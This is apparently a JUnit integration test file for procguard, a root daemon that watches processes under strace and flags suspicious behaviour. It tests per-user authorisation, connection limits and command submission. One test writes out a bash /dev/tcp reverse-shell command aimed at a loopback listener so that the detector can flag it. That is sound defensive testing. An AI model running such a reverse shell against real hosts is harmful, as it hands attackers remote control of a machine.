package io.procguard.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.procguard.cli.control.ControlConnectionHog;
import io.procguard.cli.control.ControlRawRequest;
import java.io.File;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * The daemon's authorisation with a real unprivileged user: a system user created for the test runs
 * the real clients (a separate JVM under setpriv) against a daemon running as root, with the bundled
 * ONNX model. Needs root (CI runs as root); skipped otherwise.
 */
@Timeout(240)
class DaemonAuthorisationTest {
    /** Class path entries the clients do not need (the ONNX runtime alone is 50 MB). */
    private static final List<String> NOT_FOR_CLIENTS = List.of("onnxruntime", "junit", "assertj", "byte-buddy", "opentest4j",
            "apiguardian");

    @TempDir
    Path privateDir;

    private Path shared;
    private String classPath;
    private String user;
    private int uid;
    private DaemonProcess daemon;
    private final List<Process> targets = new ArrayList<>();

    @BeforeEach
    void createUserAndStartDaemon() throws Exception {
        MonitorProcess.assumeTracing();
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/setpriv")) && Files.isExecutable(Path.of("/usr/sbin/useradd")),
                "needs setpriv and useradd (util-linux, passwd)");
        user = "pgtest" + Integer.toString(new SecureRandom().nextInt(1 << 24), 36);
        assertThat(exec("useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", user).exitCode).isZero();
        uid = Integer.parseInt(exec("id", "-u", user).out.trim());
        shared = Files.createTempDirectory("procguard-daemon-test-");
        Files.setPosixFilePermissions(shared, PosixFilePermissions.fromString("rwxr-xr-x"));
        classPath = copyClassPath(shared.resolve("cp"));
        daemon = DaemonProcess.start(privateDir, shared.resolve("run").resolve("procguard.sock"), "--score-interval", "200");
    }

    @AfterEach
    void stopEverything() throws Exception {
        targets.forEach(Process::destroyForcibly);
        if (daemon != null) {
            daemon.close();
        }
        if (user != null) {
            // a command the daemon ran as the user may outlive a failed test (a stopping daemon leaves runs running):
            // userdel refuses a user with processes, and the user would stay
            if (Files.isExecutable(Path.of("/usr/bin/pkill"))) {
                exec("pkill", "-KILL", "-u", user);
            }
            exec("userdel", user);
        }
        if (shared != null) {
            try (Stream<Path> s = Files.walk(shared)) {
                s.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
        if (user != null) {
            // the user's JVMs run without perf data (userJava)
            assertThat(Path.of(System.getProperty("java.io.tmpdir"), "hsperfdata_" + user)).doesNotExist();
        }
    }

    @Test
    void userMayWatchOwnProcessButIsDeniedRootsAndTheDenialIsLogged() throws Exception {
        Process own = startAsUser("sleep", "120");
        Process roots = start(List.of("sleep", "120"));
        assertThat(owner(own.pid())).as("the user's sleep runs as the user").isEqualTo(uid);

        Run watchOwn = asUser("watch", "--socket", daemon.socket.toString(), Long.toString(own.pid()));
        assertThat(watchOwn.exitCode).as(watchOwn.err).isZero();
        assertThat(watchOwn.out).contains("watching pid " + own.pid());
        assertThat(DaemonProcess.tracerOf(own.pid())).as("strace traces it").isPositive();

        Run watchRoots = asUser("watch", "--socket", daemon.socket.toString(), Long.toString(roots.pid()));
        assertThat(watchRoots.exitCode).isEqualTo(ExitCodes.FAILURE);
        assertThat(watchRoots.err).startsWith("procguard: pid " + roots.pid() + " belongs to uid 0, not to you (uid " + uid + ")")
                .doesNotContain("Exception");
        assertThat(DaemonProcess.tracerOf(roots.pid())).as("root's process is left alone").isZero();

        Run list = asUser("list", "--socket", daemon.socket.toString(), "--json");
        assertThat(list.exitCode).as(list.err).isZero();
        assertThat(list.out).contains("\"pid\":" + own.pid()).contains("\"state\":\"watching\"").doesNotContain("\"pid\":" + roots.pid());

        Run unwatchRoots = asUser("unwatch", "--socket", daemon.socket.toString(), Long.toString(roots.pid()));
        assertThat(unwatchRoots.exitCode).as("root's process: denied, watched or not").isEqualTo(ExitCodes.FAILURE);

        assertThat(daemon.log()).anyMatch(l -> l.contains("\"event\":\"denied\"") && l.contains("\"peer_uid\":" + uid)
                && l.contains("\"op\":\"watch\"") && l.contains("\"pid\":" + roots.pid()) && l.matches(".*\"peer_pid\":[1-9].*"));
        assertThat(daemon.err()).contains("denied watch of pid " + roots.pid() + " to uid " + uid + " pid ");

        CliRunner.Result rootList = CliRunner.run("list", "--socket", daemon.socket.toString());
        assertThat(rootList.exitCode()).isZero();
        assertThat(rootList.out()).contains(Long.toString(own.pid())).contains("watching");

        Run unwatchOwn = asUser("unwatch", "--socket", daemon.socket.toString(), Long.toString(own.pid()));
        assertThat(unwatchOwn.exitCode).as(unwatchOwn.err).isZero();
        assertThat(DaemonProcess.tracerOf(own.pid())).as("detached").isZero();
        assertThat(own.isAlive()).isTrue();
    }

    @Test
    void userCannotUnwatchAWatchRootPlacedOnTheirProcess() throws Exception {
        Process own = startAsUser("sleep", "120");
        CliRunner.Result byRoot = CliRunner.run("watch", "--socket", daemon.socket.toString(), Long.toString(own.pid()));
        assertThat(byRoot.exitCode()).as(byRoot.err()).isZero();

        Run list = asUser("list", "--socket", daemon.socket.toString(), "--json");
        assertThat(list.out).as("their own process shows, with who asked").contains("\"pid\":" + own.pid()).contains("\"requested_by\":0");
        Run unwatch = asUser("unwatch", "--socket", daemon.socket.toString(), Long.toString(own.pid()));
        assertThat(unwatch.exitCode).isEqualTo(ExitCodes.FAILURE);
        assertThat(unwatch.err).contains("only they or root may unwatch it");
        assertThat(DaemonProcess.tracerOf(own.pid())).isPositive();
    }

    @Test
    void unwatchOfAProcessRootWatchesIsDeniedLikeWatchAndDoesNotTellWhetherItIsWatched() throws Exception {
        Process watched = start(List.of("sleep", "120"));
        Process unwatched = start(List.of("sleep", "120"));
        CliRunner.Result byRoot = CliRunner.run("watch", "--socket", daemon.socket.toString(), Long.toString(watched.pid()));
        assertThat(byRoot.exitCode()).as(byRoot.err()).isZero();

        Run unwatch = asUser("unwatch", "--socket", daemon.socket.toString(), Long.toString(watched.pid()));
        assertThat(unwatch.exitCode).as(unwatch.err).isEqualTo(ExitCodes.FAILURE);
        assertThat(unwatch.err).isEqualTo("procguard: pid " + watched.pid() + " belongs to uid 0, not to you (uid "
                + uid + "); only root may unwatch other users' processes" + System.lineSeparator());
        assertThat(DaemonProcess.tracerOf(watched.pid())).as("still watched").isPositive();

        Run other = asUser("unwatch", "--socket", daemon.socket.toString(), Long.toString(unwatched.pid()));
        assertThat(other.exitCode).as("the same answer for root's process nobody watches").isEqualTo(ExitCodes.FAILURE);
        assertThat(other.err.replace(Long.toString(unwatched.pid()), "PID")).isEqualTo(unwatch.err.replace(Long.toString(watched.pid()), "PID"));
        assertThat(daemon.log()).anyMatch(l -> l.contains("\"event\":\"denied\"") && l.contains("\"op\":\"unwatch\"")
                && l.contains("\"peer_uid\":" + uid) && l.contains("\"pid\":" + watched.pid()));

        Run gone = asUser("unwatch", "--socket", daemon.socket.toString(), "4194000");
        assertThat(gone.exitCode).as("no such process: not watched").isEqualTo(ExitCodes.BAD_INPUT);
    }

    @Test
    void aUserHoldingMoreConnectionsThanItsShareCannotStopRootsListAndIsToldWhyOnce() throws Exception {
        String socket = daemon.socket.toString();
        String hog = hold(40);

        for (int i = 0; i < 3; i++) {
            CliRunner.Result rootList = CliRunner.run("list", "--socket", socket);
            assertThat(rootList.exitCode()).as(rootList.err()).isZero();
            assertThat(rootList.out()).isEqualTo("no watches" + System.lineSeparator());
        }
        assertThat(hog).as("one user gets its share (--max-clients-per-user 4), not all 16 places").isEqualTo("held 4 refused 36");

        Run mine = asUser("list", "--socket", socket);
        assertThat(mine.exitCode).isEqualTo(ExitCodes.FAILURE);
        assertThat(mine.err).isEqualTo("procguard: " + socket + ": the daemon is busy: uid " + uid + " has 4 connections open already, "
                + "the limit per user (--max-clients-per-user); retry when they are done" + System.lineSeparator());

        List<String> refused = daemon.log().stream().filter(l -> l.contains("\"event\":\"refused\"")).toList();
        assertThat(refused).as("37 refusals in one burst: one line").hasSize(1);
        assertThat(refused.get(0)).contains("\"peer_uid\":" + uid).contains("--max-clients-per-user");
        assertThat(daemon.err().lines().filter(l -> l.contains("refused"))).hasSize(1);
    }

    @Test
    void rootIsServedFromItsReserveWhenUsersTakeEveryOtherPlace() throws Exception {
        daemon.close();
        daemon = DaemonProcess.start(Files.createDirectory(privateDir.resolve("small")), daemon.socket, "--max-clients", "2");
        String hog = hold(10);

        List<io.procguard.cli.control.ControlClient> roots = new ArrayList<>();
        try {
            for (int i = 0; i < io.procguard.cli.control.Daemon.ROOT_RESERVE; i++) {
                io.procguard.cli.control.ControlClient c = io.procguard.cli.control.ControlClient.connect(daemon.socket);
                roots.add(c);
                assertThat(c.list().ok()).as("root's connection %d while users hold every place", i + 1).isTrue();
            }
        } finally {
            roots.forEach(io.procguard.cli.control.ControlClient::close);
        }
        assertThat(hog).isEqualTo("held 2 refused 8");
        assertThat(daemon.log()).anyMatch(l -> l.contains("\"event\":\"refused\"") && l.contains("\"peer_uid\":" + uid)
                && l.contains("--max-clients)"));
    }

    @Test
    void runStartsTheCommandAsTheRequestingUserUnderStrace() throws Exception {
        Path work = Files.createDirectory(shared.resolve("work"));
        Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxrwxrwx"));
        Run run = asUserMain(ControlRawRequest.class.getName(), daemon.socket.toString(),
                "{\"op\":\"run\",\"argv\":[\"sh\",\"-c\",\"id -u; pwd; echo $HOME; touch made-here\"],\"cwd\":\"" + work + "\"}");
        assertThat(run.exitCode).as(run.err).isZero();
        assertThat(run.out).contains("\"ok\":true").contains("\"output\":");
        Path output = Path.of(run.out.replaceAll("(?s).*\"output\":\"([^\"]+)\".*", "$1").trim());

        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
        // wait for the watch's end, not just its root's exit ('"root":"exited 0"' shows while it still watches)
        while (System.nanoTime() < deadline
                && !CliRunner.run("list", "--socket", daemon.socket.toString(), "--json").out().contains("\"ending\":\"exited 0\"")) {
            Thread.sleep(100);
        }
        assertThat(CliRunner.run("list", "--socket", daemon.socket.toString(), "--json").out()).contains("\"kind\":\"run\"")
                .contains("\"ending\":\"exited 0\"").contains("\"uid\":" + uid);
        assertThat(Files.readAllLines(output)).containsExactly(Integer.toString(uid), work.toString(), home());
        assertThat(owner(work.resolve("made-here"))).as("files it creates are the user's").isEqualTo(uid);
        assertThat(String.join("\n", MonitorProcess.allLogs(daemon.logs))).contains("\"uid\":" + uid).contains("\"exe\":\"/usr/bin/sh\"");
        assertThat(output.getFileName().toString()).endsWith("_uid" + uid + ".out");

        // the user cannot open the file (root's 0700 log directory) but reads it through the socket, from any offset
        int id = Integer.parseInt(run.out.replaceAll("(?s).*\"id\":(\\d+).*", "$1").trim());
        String whole = Files.readString(output);
        int from = whole.indexOf('\n') + 1;
        Run read = asUserMain(ControlRawRequest.class.getName(), daemon.socket.toString(), "{\"op\":\"output\",\"id\":" + id + "}");
        Run part = asUserMain(ControlRawRequest.class.getName(), daemon.socket.toString(),
                "{\"op\":\"output\",\"id\":" + id + ",\"offset\":" + from + "}");
        assertThat(read.out).as(read.err).contains("\"ok\":true", "\"running\":false", "\"offset\":0", "\"size\":" + whole.length(),
                "\"next_offset\":" + whole.length());
        assertThat(decodedData(read.out)).isEqualTo(whole);
        assertThat(decodedData(part.out)).isEqualTo(whole.substring(from));

        // another user's run is not found for them (root's, planted with an id of its own); root reads any
        Files.writeString(daemon.logs.resolve("run_1700000000_9999_uid0.out"), "root's\n");
        Run other = asUserMain(ControlRawRequest.class.getName(), daemon.socket.toString(), "{\"op\":\"output\",\"id\":9999}");
        assertThat(other.out).as(other.err).contains("\"ok\":false", "\"code\":\"not_found\"", "no output of run #9999 for uid " + uid);
        try (io.procguard.cli.control.ControlClient root = io.procguard.cli.control.ControlClient.connect(daemon.socket)) {
            assertThat(root.output(9999, 0).body().path("data").asText()).isEqualTo(
                    java.util.Base64.getEncoder().encodeToString("root's\n".getBytes(StandardCharsets.UTF_8)));
            assertThat(root.output(id, 0).body().path("data").asText()).as("root reads the user's run too")
                    .isEqualTo(java.util.Base64.getEncoder().encodeToString(whole.getBytes(StandardCharsets.UTF_8)));
        }
    }

    @Test
    void submitShowsTheUsersCommandOutputAsBytesAndExitsWithItsCode() throws Exception {
        Path work = Files.createDirectory(shared.resolve("work"));
        Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxrwxrwx"));
        String sock = daemon.socket.toString();
        Run submit = asUser("submit", "--socket", sock, "--cwd", work.toString(), "--",
                "sh", "-c", "id -u; pwd; printf 'raw\\001\\377bytes\\n'; echo to-stderr >&2; exit 7");
        assertThat(submit.exitCode).as(submit.err).isEqualTo(7);
        byte[] expected = (uid + "\n" + work + "\nraw\001\377bytes\nto-stderr\n").getBytes(StandardCharsets.ISO_8859_1);
        assertThat(submit.outBytes).as("the command's output, byte for byte, stdout and stderr merged").isEqualTo(expected);
        assertThat(submit.err).matches("(?s)procguard: running pid \\d+ \\(#\\d+\\)\n"
                + "procguard: #\\d+ \\(pid \\d+\\) exited 7; status [A-Z]+, worst of its processes [A-Z]+\n");
        String id = submit.err.replaceAll("(?s).*\\(#(\\d+)\\).*", "$1");

        Run again = asUser("output", "--socket", sock, id);
        assertThat(again.exitCode).as(again.err).isZero();
        assertThat(again.outBytes).as("read again after the end").isEqualTo(expected);
        Run tail = asUser("output", "--socket", sock, "--offset", Integer.toString(expected.length - "to-stderr\n".length()), id);
        assertThat(tail.out).isEqualTo("to-stderr\n");

        Run json = asUser("submit", "--socket", sock, "--json", "--cwd", work.toString(), "--", "sh", "-c", "kill -TERM $$");
        assertThat(json.exitCode).as(json.err).isEqualTo(128 + 15);
        String report = json.err.lines().reduce((a, b) -> b).orElseThrow();
        assertThat(report).startsWith("{").contains("\"kind\":\"run\"", "\"ending\":\"killed by SIGTERM\"", "\"exit_status\":143",
                "\"uid\":" + uid);

        Files.writeString(daemon.logs.resolve("run_1700000000_9999_uid0.out"), "root's\n");
        Run roots = asUser("output", "--socket", sock, "9999");
        assertThat(roots.exitCode).isEqualTo(ExitCodes.BAD_INPUT);
        assertThat(roots.err).startsWith("procguard: no output of run #9999 for uid " + uid).doesNotContain("Exception");
        assertThat(roots.out).isEmpty();
    }

    @Test
    void ctrlCInterruptsTheSubmittedCommandAndEscalatesToSigtermWhenItIgnoresSigint() throws Exception {
        Path work = Files.createDirectory(shared.resolve("work"));
        Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxrwxrwx"));
        List<String> argv = new ArrayList<>(List.of(ProcGuardCommand.class.getName(), "submit", "--socket", daemon.socket.toString(),
                "--cwd", work.toString(), "--", "sh", "-c", "trap '' INT; echo started; sleep 60; echo never"));
        ProcessBuilder pb = new ProcessBuilder(userJava(argv.toArray(String[]::new))).directory(shared.toFile());
        pb.environment().put("HOME", shared.toString());
        Process client = pb.start();
        targets.add(client);
        var lines = new java.io.BufferedReader(new java.io.InputStreamReader(client.getInputStream(), StandardCharsets.UTF_8));
        assertThat(lines.readLine()).isEqualTo("started");
        long t0 = System.nanoTime();
        assertThat(exec("kill", "-INT", Long.toString(client.pid())).exitCode).isZero();
        assertThat(client.waitFor(30, TimeUnit.SECONDS)).as("ended within 30 s").isTrue();
        double seconds = (System.nanoTime() - t0) / 1e9;
        String err = new String(client.getErrorStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(lines.readLine()).as("the command was stopped before its end").isNull();
        assertThat(client.exitValue()).as(err).isEqualTo(128 + 15);
        assertThat(err).contains("procguard: interrupting pid ").contains(") killed by SIGTERM; status ");
        assertThat(seconds).as("SIGTERM follows the ignored SIGINT after 5 s").isGreaterThanOrEqualTo(4.5);
        assertThat(CliRunner.run("list", "--socket", daemon.socket.toString(), "--json").out())
                .contains("\"ending\":\"killed by SIGTERM\"");
    }

    @Test
    void submitWhoseReaderGoesAwayStopsTheCommandAndExits141Silently() throws Exception {
        // 'procguard submit -- yes | head -2': locally SIGPIPE would end yes; under the daemon it would write on unread
        Process client = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-XX:TieredStopAtLevel=1",
                "-cp", System.getProperty("java.class.path"), ProcGuardCommand.class.getName(), "submit", "--socket", daemon.socket.toString(),
                "--", "yes").start();
        targets.add(client);
        var lines = new java.io.BufferedReader(new java.io.InputStreamReader(client.getInputStream(), StandardCharsets.UTF_8));
        assertThat(lines.readLine()).isEqualTo("y");
        client.getInputStream().close();
        assertThat(client.waitFor(30, TimeUnit.SECONDS)).as("ended").isTrue();
        String err = new String(client.getErrorStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(client.exitValue()).as(err).isEqualTo(ExitCodes.CLOSED_PIPE);
        assertThat(err).as("nothing said but the start").matches("procguard: running pid \\d+ \\(#\\d+\\)\n");
        assertThat(CliRunner.run("list", "--socket", daemon.socket.toString(), "--json").out()).as("yes was stopped")
                .contains("\"state\":\"ended\"").containsPattern("\"ending\":\"killed by SIG(INT|TERM)\"");
    }

    @Test
    void sigtermToSubmitStopsTheCommandLikeRunAndExits143() throws Exception {
        // 'timeout 60 procguard submit -- job': the job must not outlive submit unwatched
        Process client = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-XX:TieredStopAtLevel=1",
                "-cp", System.getProperty("java.class.path"), ProcGuardCommand.class.getName(), "submit", "--socket", daemon.socket.toString(),
                "--", "sh", "-c", "echo started; exec sleep 60").start();
        targets.add(client);
        var lines = new java.io.BufferedReader(new java.io.InputStreamReader(client.getInputStream(), StandardCharsets.UTF_8));
        assertThat(lines.readLine()).isEqualTo("started");
        assertThat(exec("kill", "-TERM", Long.toString(client.pid())).exitCode).isZero(); // not destroy(): it closes the pipes
        assertThat(client.waitFor(30, TimeUnit.SECONDS)).as("ended").isTrue();
        String err = new String(client.getErrorStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(client.exitValue()).as(err).isEqualTo(128 + 15);
        assertThat(CliRunner.run("list", "--socket", daemon.socket.toString(), "--json").out()).as("sleep was stopped")
                .contains("\"state\":\"ended\"").contains("\"ending\":\"killed by SIGINT\"");
    }

    @Test
    void submitFailOnExitsTenWhenTheCommandActedLikeAReverseShell() throws Exception {
        Path work = Files.createDirectory(shared.resolve("work"));
        Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxrwxrwx"));
        try (java.net.ServerSocket listener = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
            Thread attacker = new Thread(() -> {
                try (java.net.Socket s = listener.accept()) {
                    s.getOutputStream().write("id\nuname -a\nexit\n".getBytes(StandardCharsets.UTF_8));
                    s.getInputStream().readAllBytes();
                } catch (IOException ignored) {
                    // the test's assertions say what went wrong
                }
            });
            attacker.start();
            Run submit = asUser("submit", "--socket", daemon.socket.toString(), "--cwd", work.toString(), "--fail-on", "suspicious",
                    "--", "/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + "; sh <&3 >&3 2>&3");
            attacker.join(10_000);
            assertThat(submit.exitCode).as(submit.err).isEqualTo(ExitCodes.DETECTED);
            assertThat(submit.err).containsPattern("worst of its processes (SUSPICIOUS|MALICIOUS)\n")
                    .containsPattern("reached (SUSPICIOUS|MALICIOUS): exit 10 \\(--fail-on suspicious; the command exited with 0\\)")
                    // the shell, or a command it ran with its stdout on the socket (id): which scores first is the model's
                    .as("the first process that reached it, with why").containsPattern(
                            "procguard: pid \\d+ \\((sh|bash|id|uname)\\) reached (SUSPICIOUS|MALICIOUS): [^\n]*reverse_shell")
                    .containsPattern("procguard:   (dup2\\(3|write\\(1<TCP:)");
            assertThat(CliRunner.run("list", "--socket", daemon.socket.toString(), "--json").out()).contains("\"culprit\":{\"pid\":");
            assertThat(CliRunner.run("list", "--socket", daemon.socket.toString()).out()).as("the human list says why too")
                    .containsPattern("\n      pid \\d+ \\((sh|bash|id|uname)\\) (SUSPICIOUS|MALICIOUS): ind\\.reverse_shell=1");
        }
    }

    private static String decodedData(String answer) {
        String data = answer.replaceAll("(?s).*\"data\":\"([^\"]*)\".*", "$1").trim();
        return new String(java.util.Base64.getDecoder().decode(data), StandardCharsets.UTF_8);
    }

    @Test
    void aUsersRunRemovesTheirOldestRunOutputsBeyondTheLimit() throws Exception {
        int keep = io.procguard.cli.control.Daemon.MAX_RUN_OUTPUTS_PER_USER;
        for (int i = 0; i < keep + 2; i++) {
            Files.writeString(daemon.logs.resolve("run_1700000000_" + i + "_uid" + uid + ".out"), "old output\n");
        }
        Path work = Files.createDirectory(shared.resolve("work"));
        Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxrwxrwx"));
        Run run = asUserMain(ControlRawRequest.class.getName(), daemon.socket.toString(),
                "{\"op\":\"run\",\"argv\":[\"true\"],\"cwd\":\"" + work + "\"}");
        assertThat(run.out).as(run.err).contains("\"ok\":true");

        try (var files = Files.list(daemon.logs)) {
            assertThat(files.map(p -> p.getFileName().toString()).filter(n -> n.endsWith("_uid" + uid + ".out")))
                    .as("the new one and the last %d old ones", keep - 1).hasSize(keep)
                    .doesNotContain("run_1700000000_0_uid" + uid + ".out", "run_1700000000_2_uid" + uid + ".out")
                    .contains("run_1700000000_3_uid" + uid + ".out");
        }
        assertThat(daemon.log()).filteredOn(l -> l.contains("\"event\":\"run_output_removed\"")).hasSize(3);
    }

    @Test
    void runInADirectoryTheUserCannotEnterFails() throws Exception {
        Path closed = Files.createDirectory(privateDir.resolve("closed")); // inside a 0700 root directory
        Run run = asUserMain(ControlRawRequest.class.getName(), daemon.socket.toString(),
                "{\"op\":\"run\",\"argv\":[\"touch\",\"x\"],\"cwd\":\"" + closed + "\"}");
        assertThat(run.exitCode).as(run.err).isZero();
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
        String list = "";
        while (System.nanoTime() < deadline && !list.contains("\"state\":\"ended\"")) {
            Thread.sleep(100);
            list = CliRunner.run("list", "--socket", daemon.socket.toString(), "--json").out();
        }
        assertThat(list).contains("\"ending\":\"exited 125\""); // env: cannot change directory
        assertThat(closed.resolve("x")).doesNotExist();
    }

    /**
     * Starts {@link ControlConnectionHog} as the test user: it takes what it can of {@code tries}
     * connections and keeps the ones it got busy until the test ends.
     *
     * @return its report, {@code held H refused R}
     */
    private String hold(int tries) throws IOException {
        ProcessBuilder pb = new ProcessBuilder(userJava(ControlConnectionHog.class.getName(), daemon.socket.toString(),
                Integer.toString(tries))).directory(shared.toFile()).redirectError(ProcessBuilder.Redirect.DISCARD);
        Process p = pb.start();
        targets.add(p);
        return new java.io.BufferedReader(new java.io.InputStreamReader(p.getInputStream(), StandardCharsets.UTF_8)).readLine();
    }

    private String home() throws IOException, InterruptedException {
        return exec("getent", "passwd", user).out.trim().split(":")[5];
    }

    // ---- helpers ----

    private record Run(int exitCode, String out, String err, byte[] outBytes) {
    }

    private List<String> setpriv(String... command) {
        List<String> argv = new ArrayList<>(List.of("setpriv", "--reuid=" + user, "--regid=" + user, "--init-groups", "--"));
        argv.addAll(List.of(command));
        return argv;
    }

    /**
     * Starts a command under setpriv as the test user and returns once it runs as the user: right after
     * the start, /proc can still show setpriv as root, before its setresuid (a loaded machine showed it).
     */
    private Process startAsUser(String... command) throws IOException, InterruptedException {
        Process p = start(setpriv(command));
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
        while (owner(p.pid()) != uid && p.isAlive() && System.nanoTime() < deadline) {
            Thread.sleep(10);
        }
        return p;
    }

    private Process start(List<String> argv) throws IOException {
        Process p = new ProcessBuilder(argv).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
        targets.add(p);
        return p;
    }

    /** Runs a procguard command as the test user in a separate JVM. */
    private Run asUser(String... args) throws IOException, InterruptedException {
        List<String> all = new ArrayList<>(List.of(ProcGuardCommand.class.getName()));
        all.addAll(List.of(args));
        return asUserMain(all.toArray(String[]::new));
    }

    private Run asUserMain(String... mainAndArgs) throws IOException, InterruptedException {
        ProcessBuilder pb = new ProcessBuilder(userJava(mainAndArgs)).directory(shared.toFile());
        pb.environment().put("HOME", shared.toString());
        return finish(pb.start());
    }

    /**
     * @return the command running {@code main} with its arguments as the test user: this JVM's java, C1 only, and no
     *     perf data (a {@code /tmp/hsperfdata_USER} would outlive the user, one per test run)
     */
    private List<String> userJava(String... mainAndArgs) {
        List<String> java = new ArrayList<>(List.of(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-XX:TieredStopAtLevel=1", "-XX:-UsePerfData", "-cp", classPath));
        java.addAll(List.of(mainAndArgs));
        return setpriv(java.toArray(String[]::new));
    }

    private static Run exec(String... argv) throws IOException, InterruptedException {
        return finish(new ProcessBuilder(argv).start());
    }

    private static Run finish(Process p) throws IOException, InterruptedException {
        p.getOutputStream().close();
        var err = new java.util.concurrent.CompletableFuture<String>();
        Thread t = new Thread(() -> {
            try {
                err.complete(new String(p.getErrorStream().readAllBytes(), StandardCharsets.UTF_8));
            } catch (IOException e) {
                err.complete(e.toString());
            }
        });
        t.start();
        byte[] outBytes = p.getInputStream().readAllBytes();
        String out = new String(outBytes, StandardCharsets.UTF_8);
        if (!p.waitFor(60, TimeUnit.SECONDS)) {
            p.destroyForcibly();
            throw new AssertionError("did not finish in 60 s");
        }
        t.join();
        return new Run(p.exitValue(), out, err.join(), outBytes);
    }

    private static int owner(long pid) throws IOException {
        for (String line : Files.readAllLines(Path.of("/proc", Long.toString(pid), "status"))) {
            if (line.startsWith("Uid:")) {
                return Integer.parseInt(line.substring(4).trim().split("\\s+")[0]);
            }
        }
        return -1;
    }

    private static int owner(Path file) throws IOException {
        return (Integer) Files.getAttribute(file, "unix:uid");
    }

    /**
     * Copies the class path (minus what clients never load) where the test user can read it.
     *
     * @return the copy's class path, in the same order
     */
    private static String copyClassPath(Path to) throws IOException {
        Files.createDirectory(to);
        List<String> copied = new ArrayList<>();
        for (String entry : System.getProperty("java.class.path").split(File.pathSeparator)) {
            Path from = Path.of(entry);
            if (entry.isEmpty() || !Files.exists(from) || NOT_FOR_CLIENTS.stream().anyMatch(entry::contains)) {
                continue;
            }
            Path target = to.resolve(copied.size() + "-" + from.getFileName()); // module dirs are all called "classes"
            if (Files.isDirectory(from)) {
                try (Stream<Path> s = Files.walk(from)) {
                    for (Path p : (Iterable<Path>) s::iterator) {
                        Path dest = target.resolve(from.relativize(p).toString());
                        if (Files.isDirectory(p)) {
                            Files.createDirectories(dest);
                        } else {
                            Files.copy(p, dest);
                        }
                    }
                }
            } else {
                Files.copy(from, target);
            }
            copied.add(target.toString());
        }
        try (Stream<Path> s = Files.walk(to)) {
            for (Path p : (Iterable<Path>) s::iterator) {
                Files.setPosixFilePermissions(p, PosixFilePermissions.fromString(Files.isDirectory(p) ? "rwxr-xr-x" : "rw-r--r--"));
            }
        }
        return String.join(File.pathSeparator, copied);
    }
}
